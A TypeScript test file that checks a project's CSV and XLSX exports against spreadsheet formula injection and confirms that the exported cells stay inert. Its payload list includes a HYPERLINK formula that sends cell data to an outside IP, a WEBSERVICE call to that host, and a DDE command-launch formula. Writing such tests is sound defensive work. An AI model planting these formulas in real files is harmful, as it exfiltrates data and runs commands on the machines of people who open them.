// What people wrote goes out again as CSV and XLSX; opened in a spreadsheet, none of it may be run.
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { writeCsvText } from '../../src/lib/charts/write-csv.ts';
import { writeCsv, writeWorkbook } from '../../src/lib/server/http/table-file.ts';
import { withFolder } from './with-store.ts';

const attacks = [
	'=1+1',
	'=HYPERLINK("http://203.0.113.9/?"&A1,"ดูเพิ่ม")',
	"=cmd|'/c calc'!A0",
	'=WEBSERVICE("http://203.0.113.9")',
	'+1+1',
	'-1+1',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'ก;=1+1',
	'ก",=1+1',
	'"=1+1"'
];
const table = {
	name: 'table',
	title: '=1+1',
	columns: ['=1+1', 'ค่า'],
	rows: attacks.map((attack, nth) => [attack, -nth] as const)
};

/** What a spreadsheet makes of a file: its formulas, and the text or number of each cell. */
function openInSpreadsheet(folder: string, name: string, bytes: Uint8Array): { formulas: number; numbers: number } {
	writeFileSync(join(folder, name), bytes);
	// comma, UTF-8, special numbers are found out, formulas are worked out: what a careless office would tick
	const careless = name.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true'] : [];
	const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
	execFileSync(
		'soffice',
		[profile, '--headless', ...careless, '--convert-to', 'fods', '--outdir', folder, join(folder, name)],
		{
			stdio: 'ignore'
		}
	);
	const sheet = readFileSync(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8');
	return {
		formulas: sheet.split('table:formula=').length - 1,
		numbers: sheet.split('office:value-type="float"').length - 1
	};
}

test('no words of ours become a formula in a spreadsheet, and numbers stay numbers', async () => {
	await withFolder(async (folder) => {
		const careless = openInSpreadsheet(folder, 'careless.csv', Buffer.from('\ufeffก,ข\r\n=1+1,-1\r\n'));
		expect(careless).toEqual({ formulas: 1, numbers: 2 });
		expect(openInSpreadsheet(folder, 'own.csv', writeCsv(table))).toEqual({ formulas: 0, numbers: attacks.length });
		expect(openInSpreadsheet(folder, 'own.xlsx', await writeWorkbook(table))).toEqual({
			formulas: 0,
			numbers: attacks.length
		});
	});
});

test.each([
	['=1+1', "'=1+1"],
	['-', '-'],
	['-5', '-5'],
	['+1,234.5%', '"+1,234.5%"'],
	['-1+1', "'-1+1"],
	['−5', '−5'],
	['a=1', 'a=1'],
	['ก;ข', '"ก;ข"']
])('%s is written as %s', (text, written) => {
	expect(writeCsvText({ columns: ['ก'], rows: [[text], [-1.5]] })).toBe(`\ufeffก\r\n${written}\r\n-1.5\r\n`);
});
